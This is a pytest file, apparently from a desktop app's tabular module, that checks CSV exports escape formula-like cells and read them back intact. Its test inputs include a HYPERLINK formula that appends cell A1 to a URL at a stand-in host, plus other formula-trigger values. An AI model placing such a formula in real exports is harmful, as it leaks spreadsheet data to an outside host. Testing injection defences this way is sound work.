"""CSV exports never hand a spreadsheet a formula to run (CSV injection)."""

from __future__ import annotations

import csv

import pytest

from pfdesk.core.tabular.reading import read_table
from pfdesk.core.tabular.writing import write_csv

DANGEROUS = ['=HYPERLINK("http://example.invalid/?"&A1,"開く")', "+81-3-1234", "-2+3",
             "@SUM(A1)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_text_that_would_run_as_a_formula_gets_a_leading_apostrophe(tmp_path, encoding):
    out = tmp_path / "x.csv"
    write_csv(out, ["氏名", "件数"], [[v, -5] for v in DANGEROUS] + [["山田", 3]],
              encoding=encoding)
    with open(out, encoding=encoding, newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows[:-1]] == ["'" + v for v in DANGEROUS]
    assert all(r[1] == "-5" for r in rows[:-1])  # numbers stay numbers
    assert rows[-1] == ["山田", "3"]


def test_pfdesk_reads_its_own_neutralized_cells_back_as_typed(tmp_path):
    out = tmp_path / "x.csv"
    write_csv(out, ["氏名"], [["=1+1"], ["@山田"], ["'そのまま"]], encoding="utf-8-sig")
    table = read_table(out)
    assert [r.values[0] for r in table.rows] == ["=1+1", "@山田", "'そのまま"]
